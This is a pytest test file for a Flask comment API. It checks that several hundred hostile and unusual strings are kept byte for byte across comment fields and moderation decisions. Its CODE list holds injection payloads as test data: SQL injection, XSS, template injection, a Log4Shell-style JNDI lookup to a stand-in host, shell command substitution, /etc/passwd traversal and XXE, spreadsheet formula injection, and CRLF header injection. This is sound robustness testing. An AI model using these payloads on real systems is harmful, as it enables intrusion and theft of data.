"""Strings that break things: kept and given back byte for byte, everywhere they may stand."""

import json
import unicodedata

import pytest
from flask.testing import FlaskClient

from tests.browser.hostile import PAYLOADS
from tests.factories import comment

CONTROLS = [f"a{chr(code)}b" for code in [*range(1, 32), *range(127, 160)]]
INVISIBLE = [
    f"a{character}b"
    for character in (
        "\u00ad\u034f\u061c\u115f\u17b4\u180e\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202b"
        "\u202c\u202d\u202e\u2060\u2061\u2062\u2063\u2066\u2067\u2068\u2069\u206a\u3164\ufe0f\ufeff"
        "\ufff9\ufffa\ufffb\ufffc\ufffd\ufffe\uffff\U0001d173\U000e0001\U000e0041\U0010ffff\U0010fffe"
    )
]
SCRIPTS = [
    "e\u0301 \u00e9",
    "\u1e9b\u0323",
    "Z" + "".join(chr(code) for code in range(0x300, 0x370)) * 3,
    "\u0301alone",
    "ﷺ",
    "ﬃ ½ ① Å Å",
    "שלום \u202eabc",
    "العربية ١٢٣",
    "עברית and English עברית",
    "\u202egnp.exe",
    "नमस्ते क्षि",
    "ภาษาไทย กำ",
    "한국어 \u1112\u1161\u11ab",
    "日本語 ｶﾀｶﾅ ガ",
    "𝕬𝖙𝖙𝖆𝖈𝖐 𝓈𝓅𝒶𝓂",
    "ѕрам раураӏ",
    "ｆｕｌｌｗｉｄｔｈ",
    "ı İ ß ẞ ſ",
    "👩‍👩‍👧‍👦 🏳️‍🌈 🏴‍☠️",
    "🇫🇷🇫 1️⃣ 👍🏽👍🏿",
    "👨\u200d\u200d\u200d👩",
    "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
    "😀" * 500,
    "\U00020000\U0002a6d6",
    "\ue000\uf8ff\U000f0000",
]
CODE = [
    "' OR 1=1 --",
    "'; DROP TABLE comments; --",
    '" OR ""="',
    "1; SELECT pg_sleep(9)",
    "\\'; --",
    "%' AND 1=1 --",
    "$1 $2",
    ":text :id",
    "?",
    "%s %d %n %(text)s %%",
    "{} {0} {text} {{}}",
    "{0.__class__.__mro__}",
    "{{7*7}} {% raw %} {# #}",
    "{{config.items()}}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "${jndi:ldap://x.example/a}",
    "`id` $(id) ; id | id & id && id",
    "> /dev/null < /etc/passwd",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "file:///etc/passwd",
    "C:\\CON\\aux.txt",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "javascript:alert(1)",
    "jAvAsCrIpT&colon;alert(1)",
    "<a href='javascript:alert(1)'>x</a>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "</textarea></title></script>",
    "<!-- --> <![CDATA[ ]]>",
    "<?php echo 1; ?>",
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "&amp;&lt;&#65;&#x41;&nope;&",
    "]]>",
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "|calc",
    '=HYPERLINK("http://x.example","y")',
    ";=1",
    '"quoted, ""twice"""',
    "a\nERROR forged line",
    "a\r\nSet-Cookie: x=y\r\n\r\n<html>",
    "a\rb",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "\x1b[2J\x1b[H",
    "\\u0000 \\x00 %00 &#0;",
    "\\ud800",
    "\\n\\r\\t\\\\",
    "\\",
    "\\\\",
    '"',
    "'",
    "null",
    "None",
    "undefined",
    "NaN",
    "Infinity",
    "-0",
    "true",
    "0",
    "1e400",
    "9" * 5000,
    "0x1F",
    "[]",
    "{}",
    '{"$ne": null}',
    "__proto__",
    "constructor",
    "__class__",
    "(){ :; }; echo",
    "(a+)+$" + "a" * 40,
    "a" * 10_000,
    "[" * 5_000,
    "<" * 5_000,
    "http://" * 500,
    "@everyone @here",
    "https://xn--e1afmkfd.example/",
    "http://example\u3002com",
    "http://127.0.0.1:80\\@x.example/",
    " leading and trailing ",
    "\u00a0\u2003\u3000",
    " ",
    ".",
    "a",
]
# One letter or sign of each part of Unicode that has any.
PLANES = [
    f"{chr(start)}{chr(start + 1)} a {chr(start + 2)}\u0301"
    for start in (*range(0x100, 0xD700, 0x100), *range(0x10000, 0x20000, 0x800))
]
STRINGS = list(dict.fromkeys([*CONTROLS, *INVISIBLE, *SCRIPTS, *CODE, *PAYLOADS, *PLANES]))


def test_there_are_five_hundred() -> None:
    assert len(STRINGS) >= 500


@pytest.mark.parametrize("hostile", STRINGS, ids=lambda one: ascii(one)[1:30])
def test_a_string_is_kept_byte_for_byte_wherever_it_stands(
    shared_admin: FlaskClient, hostile: str
) -> None:
    short = hostile[:200]
    given = comment(
        hostile,
        author={"id": short, "name": short, "user_agent": short, "url": short},
        form={"token": short},
        metadata={"value": short[:50], short[:50]: [short[:50]]},
    )
    given["article"] = {"id": short, "title": short, "section": short, "url": short}

    answer = shared_admin.post("/v1/comments", json=given)

    assert answer.status_code == 201, answer.text
    found = shared_admin.get(f"/v1/comments/{answer.json['id']}")
    assert found.json == answer.json
    assert {name: found.json[name] for name in given} == given
    assert json.loads(found.data.decode("utf-8"))["text"] == hostile

    listed = shared_admin.get("/v1/comments", query_string={"article": short}).json["items"]
    assert answer.json["id"] in [item["id"] for item in listed]

    decided = shared_admin.post(
        f"/v1/comments/{answer.json['id']}/decision",
        json={"action": "reject", "reason": hostile[:100], "note": hostile[:2000]},
    )
    assert decided.json["decision"]["reason"] == hostile[:100]
    assert decided.json["decision"]["note"] == hostile[:2000]


@pytest.mark.parametrize("html", [False, True])
def test_spans_point_at_what_they_quote_among_hostile_strings(
    shared_admin: FlaskClient, html: bool
) -> None:
    for hostile in STRINGS:
        text = f"{hostile[:500]} spam0.97 {hostile[:500]}"
        answer = shared_admin.post("/v1/comments/check", json=comment(text, html=html))
        assert answer.status_code == 200
        for reason in answer.json["verdict"]["reasons"]:
            for span in reason["spans"]:
                assert text[span["start"] : span["end"]] == span["text"]


def test_two_forms_of_one_letter_stay_two(shared_admin: FlaskClient) -> None:
    composed, apart = "caf\u00e9", unicodedata.normalize("NFD", "caf\u00e9")

    for text in (composed, apart):
        kept = shared_admin.post("/v1/comments", json=comment(text, id="c-form"))
        assert kept.status_code == 201
        assert kept.json["text"] == text
